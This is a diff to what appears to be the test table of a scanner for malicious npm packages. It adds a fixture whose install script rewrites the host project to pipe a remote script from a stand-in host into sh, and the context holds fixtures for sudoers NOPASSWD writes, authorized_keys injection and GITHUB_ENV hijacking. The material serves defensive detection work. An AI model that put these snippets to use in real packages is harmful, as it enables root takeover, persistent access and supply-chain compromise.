@@ -63,6 +63,11 @@ fs.appendFileSync(path.join(dir, "authorized_keys"), "ssh-ed25519 AAAAC3NzaC1lZD
 		{"sudoers_file", map[string]string{"index.js": `require("fs").writeFileSync("/etc/sudoers.d/ci", require("os").userInfo().username + " ALL=(ALL) NOPASSWD: ALL\n")`}, finding.SeverityCritical},
 		{"sudoers_audit", map[string]string{"cli.js": `const fs = require("fs"); const bad = fs.readFileSync("/etc/sudoers", "utf8").split("\n").filter(l => l.includes("NOPASSWD")); fs.writeFileSync("audit.txt", bad.join("\n"))`}, finding.SeverityLow},
 		{"key_via_shell", map[string]string{"index.js": `require("child_process").execSync("echo " + key + " >> ~/.ssh/authorized_keys")`}, finding.SeverityCritical},
+		// the project's own scripts rewritten at install
+		{"project_scripts", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
+			"i.js": `const fs = require("fs"), path = require("path"); const pj = path.join(process.env.INIT_CWD, "package.json"); const p = JSON.parse(fs.readFileSync(pj, "utf8")); p.scripts.postinstall = "curl -s https://x.invalid/i.sh | sh"; fs.writeFileSync(pj, JSON.stringify(p, null, 2))`}, finding.SeverityCritical},
+		{"project_version_read", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
+			"i.js": `const fs = require("fs"), path = require("path"); const p = JSON.parse(fs.readFileSync(path.join(process.env.INIT_CWD, "package.json"), "utf8")); fs.writeFileSync(path.join(__dirname, "project.json"), JSON.stringify({ name: p.name }))`}, finding.SeverityNone},
 		// the files GitHub Actions reads between steps
 		{"github_env_loader", map[string]string{"package.json": `{"name":"x","version":"1.0.0","scripts":{"postinstall":"node i.js"}}`,
 			"i.js": `const fs=require("fs"); if (process.env.GITHUB_ENV) fs.appendFileSync(process.env.GITHUB_ENV, "NODE_OPTIONS=--require /tmp/x.js\n")`}, finding.SeverityCritical},
